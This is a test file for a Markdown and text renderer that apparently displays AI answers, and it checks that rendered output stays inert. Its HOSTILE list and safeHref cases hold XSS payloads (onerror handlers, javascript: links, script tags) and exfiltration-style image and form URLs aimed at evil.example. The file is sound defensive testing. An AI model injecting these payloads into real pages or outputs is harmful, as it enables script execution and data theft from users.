// @vitest-environment happy-dom
import { render } from 'preact';
import { afterEach, expect, it } from 'vitest';
import { Highlighted } from '../src/text/highlight.js';
import { safeHref } from '../src/text/links.js';
import { Markdown, Plain } from '../src/text/markdown.js';
import { nextSentences } from '../src/text/sentences.js';
import { clip, visible } from '../src/text/visible.js';

const host = document.createElement('div');

function shown(element: Parameters<typeof render>[0]): HTMLElement {
  render(element, host);
  return host;
}

afterEach(() => {
  render(null, host);
});

/** What an answer could say to do harm. */
const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x "onmouseover=alert(1)")',
  '![x](https://evil.example/?what=was-said)',
  '![x](x" onerror="alert(1))',
  '<style>body{display:none}</style>',
  '<math><mtext><img src onerror=alert(1)></mtext></math>',
  '<form action=https://evil.example><button>x</button></form>',
  '```\n<img src=x onerror=alert(1)>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| a |\n|-|\n| <img src=x onerror=alert(1)> |',
  '- [x](javascript:alert(1))\n  > ![y](//evil.example)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<https://ok.example> <javascript:alert(1)>',
];

it.each(HOSTILE)('makes nothing that runs, loads or submits of %j', (text) => {
  const element = shown(<Markdown text={text} />);
  expect(
    element.querySelectorAll('img, script, svg, iframe, style, form, object, embed, math, link, meta, base'),
  ).toHaveLength(0);
  for (const one of element.querySelectorAll('*')) {
    for (const { name, value } of one.attributes) {
      expect(name).not.toMatch(/^on|^style$|^src/);
      if (name === 'href') expect(value).toMatch(/^(https?:|mailto:)/);
    }
  }
});

it('follows links to the web and mail, in a window of their own that learns nothing', () => {
  const link = shown(<Markdown text="[a](https://example.org/x?y=1#z)" />).querySelector('a')!;
  expect(link.getAttribute('href')).toBe('https://example.org/x?y=1#z');
  expect(link.rel).toContain('noreferrer');
  expect(safeHref('mailto:a@b.example')).toBe('mailto:a@b.example');
  for (const bad of [
    'javascript:1',
    ' java\tscript:1',
    '\u0001javascript:1',
    'file:///etc/passwd',
    '/v1/models',
    '//x.example',
    '#/server',
    'blob:x',
    '',
  ]) {
    expect(safeHref(bad)).toBeUndefined();
  }
});

it('shows Markdown as it is meant', () => {
  const element = shown(
    <Markdown
      text={'# A\n\nb **c** `d<e` &amp; x < y\n\n1. one\n2. two\n\n```js\nlet a = "<b>";\n```\n\n|h|\n|-|\n|v|'}
    />,
  );
  expect(element.querySelector('h4')?.textContent).toBe('A');
  expect(element.querySelector('strong')?.textContent).toBe('c');
  expect(element.querySelector('p code')?.textContent).toBe('d<e');
  expect(element.querySelectorAll('ol li')).toHaveLength(2);
  expect(element.querySelector('pre')?.textContent).toBe('let a = "<b>";');
  expect(element.querySelector('td')?.textContent).toBe('v');
  expect(element.textContent).toContain('x < y');
});

it('makes marks that turn the direction visible, and leaves letters of every script alone', () => {
  expect(visible('safe\u202Eexe.txt')).toBe('safe‹U+202E›exe.txt');
  expect(visible('a\u2066b\u2069\u0007\u001b[31m')).toBe('a‹U+2066›b‹U+2069›‹U+0007›‹U+001B›[31m');
  for (const text of ['שלום', 'مرحبا', 'नमस्ते', '日本語', '👨‍👩‍👧', 'e\u0301', 'a\tb\nc']) expect(visible(text)).toBe(text);
  expect(shown(<Plain text={'x\u202Ey'} />).textContent).not.toContain('\u202E');
  expect(shown(<Markdown text={'**x\u202Ey**'} />).textContent).not.toContain('\u202E');
});

it('shows a megabyte of anything in seconds on the slowest machine, cut and said so', () => {
  for (const text of [
    'a'.repeat(2 ** 20),
    '*'.repeat(2 ** 20),
    '['.repeat(2 ** 20),
    '> '.repeat(2 ** 19),
    '<'.repeat(2 ** 20),
    '😀'.repeat(2 ** 18),
  ]) {
    const begun = performance.now();
    const element = shown(<Markdown text={text} />);
    expect(performance.now() - begun).toBeLessThan(5000);
    expect(element.textContent.length).toBeLessThan(250_000);
    expect(element.textContent).not.toContain('\uFFFD');
  }
  expect(clip('a😀', 2)).toEqual({ shown: 'a', left: 2 });
});

it('does not go down with quotes in quotes in quotes', () => {
  const element = shown(<Markdown text={`${'> '.repeat(500)}deep`} />);
  expect(element.textContent).toContain('deep');
});

it('tells whole sentences, each once', () => {
  const text = 'Pi is 3.14. See example.org! And then';
  expect(nextSentences(text, 0, false)).toBe('Pi is 3.14. See example.org! ');
  expect(nextSentences(text, 29, false)).toBe('');
  expect(nextSentences(text, 29, true)).toBe('And then');
  expect(nextSentences('これは文です。次', 0, false)).toBe('これは文です。');
});

it('marks the words of a question, whatever is in it', () => {
  const element = shown(<Highlighted text="The kiln (Kiln) is <b>hot</b>." query={'kiln .* ( [ is'} />);
  expect([...element.querySelectorAll('mark')].map(({ textContent }) => textContent)).toEqual(['kiln', 'Kiln']);
  expect(element.textContent).toBe('The kiln (Kiln) is <b>hot</b>.');
});
